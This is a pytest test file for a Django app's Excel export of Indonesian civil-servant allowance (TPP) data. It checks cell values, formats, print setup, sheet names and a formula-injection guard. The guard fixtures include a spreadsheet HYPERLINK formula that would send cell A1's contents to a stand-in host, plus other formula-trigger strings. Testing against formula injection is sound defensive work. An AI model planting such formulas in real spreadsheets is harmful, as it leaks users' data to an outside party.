"""The Excel export of a month's TPP basis (SPEC §7 "Export", issue #8 item 5), read back with
openpyxl (not read-only, so number formats, print setup and frozen panes are visible): every cell
of one OPD sheet and of the Rekap, NIP as text, the Rupiah and percent formats, the print setup,
the status on every sheet, the formula-injection guard, sheet names; and `bench_ekspor`."""

from __future__ import annotations

import datetime
import io
import re
import zoneinfo
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from ekinerja.xlsx import nama_sheet, teks_aman
from penilaian.ekspor_tpp import (
    FORMAT_PERSEN,
    FORMAT_RUPIAH,
    FORMAT_TEKS,
    KOLOM,
    nama_berkas,
    teks_status,
    tulis_xlsx,
)
from penilaian.tpp import BarisTpp, DataTppBulan, OpdTpp, PenyesuaianBaris

WIB = zoneinfo.ZoneInfo("Asia/Jakarta")
DIEKSPOR = datetime.datetime(2026, 12, 3, 9, 5, tzinfo=WIB)
HYPERLINK = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'


def baris(pegawai_id: int, nip: str, nama: str, **kw) -> BarisTpp:
    nilai = {
        "golongan": "III/a", "jabatan": "Pengelola Data", "kelas_jabatan": 7, "besaran": 3_333_333, "predikat": "Baik",
        "persen_kinerja": Decimal("100"), "kinerja": 2_000_000, "potongan_disiplin": Decimal("1"), "disiplin": 1_320_000,
        "hukdis": 0, "jumlah": 3_320_000,
    }  # fmt: skip
    nilai.update(kw)
    return BarisTpp(pegawai_id=pegawai_id, nip=nip, nama=nama, **nilai)


DINKES = OpdTpp(
    kode="DINKESDALDUKKB",
    nama="Dinas Kesehatan, Pengendalian Penduduk dan Keluarga Berencana",
    baris=(
        # The SPEC §7 worked example: Baik, one TL2 (1 %), hukdis.
        baris(1, "199002142015031003", HYPERLINK, hukdis=830_000, jumlah=2_490_000, keterangan="+1 hukdis sedang"),
        baris(
            2,
            "199206202019022004",
            "Dewi Lestari",
            golongan="II/b",
            jabatan="Perawat Terampil",
            kelas_jabatan=6,
            besaran=2_800_000,
            predikat="Butuh Perbaikan",
            persen_kinerja=Decimal("80"),
            kinerja=1_344_000,
            potongan_disiplin=Decimal("4.5"),
            disiplin=1_069_600,
            jumlah=2_413_600,
            keterangan="-2",
        ),
        baris(
            3,
            "198707112010012015",
            "  Yuli Handayani",
            golongan="",
            jabatan="Analis SDM",
            kelas_jabatan=None,
            besaran=0,
            predikat="",
            persen_kinerja=Decimal("0"),
            kinerja=0,
            potongan_disiplin=Decimal("0"),
            disiplin=0,
            jumlah=0,
            keterangan="@x",
            catatan_belum_final=("Belum dinilai (giliran penilai: Rina Puspitasari)",),
        ),
    ),
    penyesuaian=(
        PenyesuaianBaris(
            2, "199206202019022004", "Dewi Lestari", "Oktober 2026", 2_413_600, 2_600_000, "=1+1 evaluasi dinilai ulang"
        ),
    ),
)
DISHUB = OpdTpp(
    kode="DISHUB",
    nama="Dinas Perhubungan",
    baris=tuple(
        baris(
            10 + i,
            f"19851230201101100{i}",
            f"Pegawai Dishub {i}",
            besaran=2_000_000,
            kinerja=1_200_000,
            potongan_disiplin=Decimal("0"),
            disiplin=800_000,
            jumlah=2_000_000,
        )
        for i in range(3)
    ),
)


def data(*, final: bool = False, opd: tuple[OpdTpp, ...] = (DINKES, DISHUB)) -> DataTppBulan:
    return DataTppBulan(
        tahun=2026, bulan=11, nama_periode="November 2026", final=final,
        difinalkan_pada=datetime.datetime(2026, 12, 5, 7, 30, tzinfo=datetime.UTC) if final else None,
        skema="Skema TPP 2026 mulai Januari", opd=opd,
    )  # fmt: skip


def tulis(d: DataTppBulan):
    buf = io.BytesIO()
    tulis_xlsx(d, buf, diekspor_pada=DIEKSPOR)
    buf.seek(0)
    return load_workbook(buf)


def isi(ws) -> list[list]:
    """Every cell value, row by row, trailing empty cells dropped ([] for an empty row)."""
    rows = []
    for row in ws.iter_rows(values_only=True):
        row = list(row)
        while row and row[-1] is None:
            row.pop()
        rows.append(row)
    return rows


JUDUL_KOLOM = ["No", "NIP", "Nama", "Golongan", "Jabatan", "Kelas Jabatan", "Besaran TPP", "Predikat", "% Kinerja",
               "Nilai Kinerja (Rp)", "Potongan Disiplin (%)", "Nilai Disiplin (Rp)", "Potongan Hukdis (Rp)",
               "Jumlah TPP (Rp)", "Keterangan"]  # fmt: skip


def kepala(baris3: str, status: str = "SEMENTARA — belum final") -> list[list]:
    return [
        ["PEMERINTAH KABUPATEN TRENGGALEK"],
        ["DASAR PEMBAYARAN TPP BULAN NOVEMBER 2026"],
        [baris3],
        [status],
        ["Skema TPP 2026 mulai Januari · diekspor 03-12-2026 09.05"],
        [],
    ]


def test_every_cell_of_an_opd_sheet():
    ws = tulis(data())["DINKESDALDUKKB"]
    assert isi(ws) == [
        *kepala("Dinas Kesehatan, Pengendalian Penduduk dan Keluarga Berencana (DINKESDALDUKKB)"),
        JUDUL_KOLOM,
        [1, "199002142015031003", "'" + HYPERLINK, "III/a", "Pengelola Data", 7, 3_333_333, "Baik", 1.0, 2_000_000,
         0.01, 1_320_000, 830_000, 2_490_000, "'+1 hukdis sedang"],
        [2, "199206202019022004", "Dewi Lestari", "II/b", "Perawat Terampil", 6, 2_800_000, "Butuh Perbaikan", 0.8,
         1_344_000, 0.045, 1_069_600, 0, 2_413_600, "'-2"],
        [3, "198707112010012015", "  Yuli Handayani", None, "Analis SDM", None, 0, None, 0.0, 0, 0.0, 0, 0, 0,
         "'@x; Belum dinilai (giliran penilai: Rina Puspitasari)"],
        # Totals are numbers (sums of the rounded rows), never formulas.
        [None, None, "JUMLAH", None, None, None, 6_133_333, None, None, 3_344_000, None, 2_389_600, 830_000,
         4_903_600],
        [],
        ["Penyesuaian bulan sebelumnya"],
        ["No", "NIP", "Nama", "Periode Asal", "Lama (Rp)", "Baru (Rp)", "Selisih (Rp)", "Alasan"],
        [1, "199206202019022004", "Dewi Lestari", "Oktober 2026", 2_413_600, 2_600_000, 186_400,
         "'=1+1 evaluasi dinilai ulang"],
        [None, None, "JUMLAH", None, 2_413_600, 2_600_000, 186_400],
        [],
        [None, None, "SEMENTARA — belum final"],
    ]  # fmt: skip
    assert not any(
        c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("=")) for r in ws.iter_rows() for c in r
    )


def test_every_cell_of_the_rekap():
    ws = tulis(data()).worksheets[0]
    assert ws.title == "Rekap"
    assert isi(ws) == [
        *kepala("REKAPITULASI PER OPD"),
        ["No", "Kode OPD", "Nama OPD", "Jumlah Pegawai", "Besaran TPP", "Nilai Kinerja (Rp)", "Nilai Disiplin (Rp)",
         "Potongan Hukdis (Rp)", "Jumlah TPP (Rp)", "Selisih Penyesuaian (Rp)"],
        [1, "DINKESDALDUKKB", "Dinas Kesehatan, Pengendalian Penduduk dan Keluarga Berencana", 3, 6_133_333,
         3_344_000, 2_389_600, 830_000, 4_903_600, 186_400],
        [2, "DISHUB", "Dinas Perhubungan", 3, 6_000_000, 3_600_000, 2_400_000, 0, 6_000_000, 0],
        [None, None, "JUMLAH", 6, 12_133_333, 6_944_000, 4_789_600, 830_000, 10_903_600, 186_400],
    ]  # fmt: skip
    assert data().jumlah == 10_903_600
    for cell in (*ws[8][4:10], *ws[10][4:10]):
        assert cell.number_format == FORMAT_RUPIAH


def test_formats_nip_as_text_rupiah_and_percent():
    ws = tulis(data())["DINKESDALDUKKB"]
    kolom = {judul: i for i, (judul, _, _) in enumerate(KOLOM)}
    for r in range(8, 11):
        row = ws[r]
        nip = row[kolom["NIP"]]
        assert nip.number_format == FORMAT_TEKS == "@"
        assert nip.data_type == "s" and isinstance(nip.value, str) and len(nip.value) == 18
        for judul in ("Besaran TPP", "Nilai Kinerja (Rp)", "Nilai Disiplin (Rp)", "Potongan Hukdis (Rp)",
                      "Jumlah TPP (Rp)"):  # fmt: skip
            assert row[kolom[judul]].number_format == FORMAT_RUPIAH == "#,##0", (r, judul)
            assert isinstance(row[kolom[judul]].value, int)
        for judul in ("% Kinerja", "Potongan Disiplin (%)"):
            assert row[kolom[judul]].number_format == FORMAT_PERSEN == "0.00%", (r, judul)
            assert isinstance(row[kolom[judul]].value, (int, float))
    total = ws[11]
    assert [total[kolom[j]].number_format for j in ("Besaran TPP", "Jumlah TPP (Rp)")] == [FORMAT_RUPIAH] * 2
    penyesuaian = ws[15]
    assert penyesuaian[1].number_format == "@"
    assert [c.number_format for c in penyesuaian[4:7]] == [FORMAT_RUPIAH] * 3
    assert ws.column_dimensions["B"].width == 20 and ws.column_dimensions["O"].width == 40


def test_frozen_header_print_setup_and_print_titles_on_every_sheet():
    wb = tulis(data())
    assert wb.sheetnames == ["Rekap", "DINKESDALDUKKB", "DISHUB"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A8"
        assert ws.print_title_rows == "$1:$7"
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert ws.oddFooter.center.text == "Halaman &P dari &N"


def test_sementara_on_every_sheet_when_not_final():
    wb = tulis(data())
    for ws in wb.worksheets:
        assert ws["A4"].value == "SEMENTARA — belum final"
        assert ws["A4"].font.color.rgb.endswith("C00000")
        assert ws.oddHeader.right.text == "SEMENTARA — belum final"
    assert teks_status(data()) == "SEMENTARA — belum final"
    assert nama_berkas(data()) == "TPP-2026-11-SEMENTARA.xlsx"


def test_final_line_when_final():
    wb = tulis(data(final=True))
    for ws in wb.worksheets:
        # 07.30 UTC is 14.30 in Trenggalek (WIB)
        assert ws["A4"].value == "FINAL (difinalkan 05-12-2026 14.30)"
        assert ws.oddHeader.right.text is None
        assert not any(isinstance(c, str) and "SEMENTARA" in c for r in ws.iter_rows(values_only=True) for c in r)
    assert nama_berkas(data(final=True), "DINKES/../x") == "TPP-2026-11-DINKES____x-FINAL.xlsx"


def test_sheet_names_are_sanitised_and_unique():
    opd = tuple(
        OpdTpp(kode=kode, nama=f"OPD {kode}", baris=())
        for kode in ("A/B", "A:B", "rekap", "'KUTIP'", "X" * 40, "X" * 35, "[]", "history")
    )
    wb = tulis(data(opd=opd))
    assert wb.sheetnames == ["Rekap", "A_B", "A_B~2", "rekap~2", "KUTIP", "X" * 31, "X" * 29 + "~2", "__", "history~2"]
    assert len({n.lower() for n in wb.sheetnames}) == len(wb.sheetnames)
    # An OPD without rows still has its sheet, with a zero total.
    assert isi(wb["A_B"])[7] == [None, None, "JUMLAH", None, None, None, 0, None, None, 0, None, 0, 0, 0]


def test_empty_month_has_the_rekap_only():
    wb = tulis(data(opd=()))
    assert wb.sheetnames == ["Rekap"]
    assert isi(wb["Rekap"])[7] == [None, None, "JUMLAH", 0, 0, 0, 0, 0, 0, 0]


def test_writes_to_a_path(tmp_path):
    path = tmp_path / "tpp.xlsx"
    tulis_xlsx(data(), path)
    assert load_workbook(path, read_only=True).sheetnames == ["Rekap", "DINKESDALDUKKB", "DISHUB"]


@pytest.mark.parametrize(
    ("masuk", "keluar"),
    [
        ("Agus Setiawan", "Agus Setiawan"),
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+62 812", "'+62 812"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("   =1+1", "'   =1+1"),
        ("\t=1", "'\t=1"),
        ("\r\n=1", "'\r\n=1"),
        ("\tbiasa", "'\tbiasa"),
        ("＝1+1", "'＝1+1"),
        ("a=b", "a=b"),
        ("Rp -2", "Rp -2"),
        ("nama\x00\x07 bersih", "nama bersih"),
        ("=\x01", "'="),
        ("", ""),
        ("x" * 40_000, "x" * 32_767),
    ],
)
def test_teks_aman(masuk: str, keluar: str):
    assert teks_aman(masuk) == keluar


def test_nama_sheet():
    dipakai = {"rekap"}
    assert [nama_sheet(k, dipakai) for k in ("DINKES", "dinkes", "Rekap", "", "'", "a*b?c", "History")] == [
        "DINKES", "dinkes~2", "Rekap~2", "Lembar", "Lembar~2", "a_b_c", "History~2",
    ]  # fmt: skip
    assert all(len(n) <= 31 for n in dipakai)


def test_bench_ekspor_tiny():
    out = io.StringIO()
    call_command("bench_ekspor", pegawai=30, opd=3, runs=1, stdout=out)
    text = out.getvalue()
    assert "30 pegawai sintetis di 3 OPD" in text
    for judul in ("tulis_xlsx (format, penjaga)", "openpyxl polos (tanpa format)"):
        row = next(line for line in text.splitlines() if line.startswith(judul))
        # median, min–max, CPU, tracemalloc MB, RSS data MB, RSS peak MB, file KB
        assert re.search(r"\d+,\d\d\s+\d+,\d\d–\d+,\d\d\s+\d+,\d\d(\s+\d+,\d){3}\s+\d+$", row), row
    assert re.search(r"Rasio tulis_xlsx / openpyxl polos: waktu \d+,\d\d× \(CPU \d+,\d\d×\), RSS puncak", text)
    assert re.search(r"Target < 5 s, < 300 MB, ≤ 1,5× openpyxl polos: (terpenuhi|TIDAK terpenuhi)", text)


# `manage.py ekspor_tpp`: input refused before any month data is read (the export itself is tested
# in tests/test_ekspor_tpp_command.py once `penilaian.services.tpp_bulan` exists).


def _skema(tahun: int, berlaku_mulai: int, by) -> None:
    from penilaian.models import SkemaTpp

    SkemaTpp.objects.create(tahun=tahun, berlaku_mulai=berlaku_mulai, dibuat_oleh=by)


@pytest.mark.parametrize("teks", ["2026-13", "2026-00", "2026-0", "26-11", "2026/11", "November", "2026-11-01", ""])
def test_command_refuses_a_bad_month(teks, tmp_path):
    with pytest.raises(CommandError, match="tidak sah: tulis tahun dan bulan sebagai YYYY-MM"):
        call_command("ekspor_tpp", teks, output=str(tmp_path / "x.xlsx"))


@pytest.mark.django_db
def test_command_refuses_a_missing_folder_a_folder_an_unopened_month_an_unknown_opd_no_scheme(world, tmp_path):
    from tests.penilaian_fixtures_admin import periode

    target = tmp_path / "x.xlsx"
    with pytest.raises(CommandError, match=r"Folder .*tidak-ada tidak ada"):
        call_command("ekspor_tpp", "2026-11", output=str(tmp_path / "tidak-ada" / "x.xlsx"))
    with pytest.raises(CommandError, match="adalah folder"):
        call_command("ekspor_tpp", "2026-11", output=str(tmp_path))
    with pytest.raises(CommandError, match=r"^Periode November 2026 belum dibuka\.$"):
        call_command("ekspor_tpp", "2026-11", output=str(target))
    periode(2026, 11, batas_realisasi=datetime.date(2026, 12, 5), batas_penilaian=datetime.date(2026, 12, 10))
    with pytest.raises(CommandError, match="OPD dengan kode 'TIDAKADA' tidak ditemukan"):
        call_command("ekspor_tpp", "2026-11", opd="TIDAKADA", output=str(target))
    # A scheme of another year, or one in force only from December, is not this month's.
    _skema(2025, 1, world.admin_bkd)
    _skema(2026, 12, world.admin_bkd)
    with pytest.raises(CommandError, match="Belum ada skema TPP yang berlaku untuk November 2026"):
        call_command("ekspor_tpp", "2026-11", opd="dinkesdaldukkb", output=str(target))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.django_db
def test_alasan_tidak_bisa_diekspor(world):
    from penilaian.ekspor_tpp import alasan_tidak_bisa_diekspor
    from tests.penilaian_fixtures_admin import periode

    hari = datetime.date(2027, 1, 31)
    tahunan = periode(2026, 0, batas_realisasi=hari, batas_penilaian=hari)
    november = periode(2026, 11, batas_realisasi=hari, batas_penilaian=hari)
    assert "periode tahunan" in alasan_tidak_bisa_diekspor(tahunan)
    assert "Belum ada skema TPP" in alasan_tidak_bisa_diekspor(november)
    _skema(2026, 11, world.admin_bkd)
    assert alasan_tidak_bisa_diekspor(november) is None
